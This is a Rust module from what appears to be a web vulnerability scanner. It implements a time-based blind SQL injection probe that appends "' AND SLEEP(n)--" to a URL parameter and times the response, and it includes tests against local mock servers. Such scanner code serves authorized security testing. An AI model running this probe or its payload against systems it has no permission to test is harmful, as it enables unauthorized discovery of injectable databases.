use crate::http::client::HttpClient;
use crate::payload::injector::{mutate, MutationMode, Target};
use std::time::{Duration, Instant};

/// Injected delay used by the SQLi detector's blind fallback
pub const DEFAULT_SLEEP_SECS: u64 = 3;

/// Extra time granted over the injected delay before the probe times out
const TIMEOUT_MARGIN: Duration = Duration::from_secs(2);

#[derive(Debug, Clone)]
pub struct TimeSqlResult {
    pub injectable: bool,
    pub elapsed: Duration,
    pub url: String,
    pub payload: String,
}

pub struct TimeBasedSqlEngine {
    pub sleep: Duration,
}

impl Default for TimeBasedSqlEngine {
    fn default() -> Self {
        Self::new(DEFAULT_SLEEP_SECS)
    }
}

impl TimeBasedSqlEngine {
    pub fn new(sleep_secs: u64) -> Self {
        Self {
            sleep: Duration::from_secs(sleep_secs),
        }
    }

    pub fn delay_payload(&self) -> String {
        format!("' AND SLEEP({})--", self.sleep.as_secs())
    }

    pub fn timeout(&self) -> Duration {
        self.sleep + TIMEOUT_MARGIN
    }

    /// Append the delay payload to the parameter's original value and time
    /// one request. A timed-out request still counts its full wall time.
    ///
    /// Returns `None` when `param` is not a real parameter of the target.
    pub async fn probe(
        &self,
        client: &HttpClient,
        target: &Target,
        param: &str,
    ) -> Option<TimeSqlResult> {
        target.first_value(param)?;

        let payload = self.delay_payload();
        let url = mutate(target, param, &payload, MutationMode::Append);

        let start = Instant::now();
        let _ = client.fetch(&url, self.timeout(), true).await;
        let elapsed = start.elapsed();

        let injectable = is_delayed(elapsed, self.sleep);
        tracing::debug!(
            "Time-based probe on {}: {}ms (threshold {}ms)",
            param,
            elapsed.as_millis(),
            self.sleep.as_millis()
        );

        Some(TimeSqlResult {
            injectable,
            elapsed,
            url,
            payload,
        })
    }
}

/// Evidence iff the observed time reaches the injected delay. A zero delay
/// proves nothing and never counts.
pub fn is_delayed(elapsed: Duration, sleep: Duration) -> bool {
    !sleep.is_zero() && elapsed >= sleep
}

#[cfg(test)]
mod tests {
    use super::*;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};

    #[test]
    fn test_delay_threshold_is_inclusive() {
        let sleep = Duration::from_secs(3);
        assert!(is_delayed(Duration::from_secs(3), sleep));
        assert!(!is_delayed(sleep - Duration::from_millis(1), sleep));
        assert!(is_delayed(Duration::from_secs(5), sleep));
    }

    #[test]
    fn test_zero_delay_is_never_evidence() {
        assert!(!is_delayed(Duration::ZERO, Duration::ZERO));
        assert!(!is_delayed(Duration::from_secs(2), Duration::ZERO));
    }

    #[test]
    fn test_payload_and_timeout() {
        let engine = TimeBasedSqlEngine::default();
        assert_eq!(engine.delay_payload(), "' AND SLEEP(3)--");
        assert_eq!(engine.timeout(), Duration::from_secs(5));
    }

    #[tokio::test]
    async fn test_unknown_param_is_skipped() {
        let client = HttpClient::new().unwrap();
        let target = Target::parse("http://127.0.0.1:1/?id=1").unwrap();
        let engine = TimeBasedSqlEngine::new(1);
        assert!(engine.probe(&client, &target, "other").await.is_none());
    }

    #[tokio::test]
    async fn test_delayed_response_is_injectable() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(
                ResponseTemplate::new(200)
                    .set_body_string("ok")
                    .set_delay(Duration::from_millis(1100)),
            )
            .mount(&server)
            .await;

        let client = HttpClient::new().unwrap();
        let target = Target::parse(&format!("{}/item?id=7", server.uri())).unwrap();
        let engine = TimeBasedSqlEngine::new(1);

        let result = engine.probe(&client, &target, "id").await.unwrap();
        assert!(result.injectable);
        assert_eq!(result.payload, "' AND SLEEP(1)--");
        assert!(result.url.contains("id=7%27+AND+SLEEP%281%29--"));
    }

    #[tokio::test]
    async fn test_fast_response_is_not_injectable() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200).set_body_string("ok"))
            .mount(&server)
            .await;

        let client = HttpClient::new().unwrap();
        let target = Target::parse(&format!("{}/item?id=7", server.uri())).unwrap();
        let engine = TimeBasedSqlEngine::new(1);

        let result = engine.probe(&client, &target, "id").await.unwrap();
        assert!(!result.injectable);
    }

    #[tokio::test]
    async fn test_timed_out_probe_still_counts() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(
                ResponseTemplate::new(200)
                    .set_body_string("late")
                    .set_delay(Duration::from_secs(10)),
            )
            .mount(&server)
            .await;

        let client = HttpClient::new().unwrap();
        let target = Target::parse(&format!("{}/?id=1", server.uri())).unwrap();
        let engine = TimeBasedSqlEngine::new(1);

        let result = engine.probe(&client, &target, "id").await.unwrap();
        assert!(result.injectable);
        assert!(result.elapsed >= engine.sleep);
    }
}
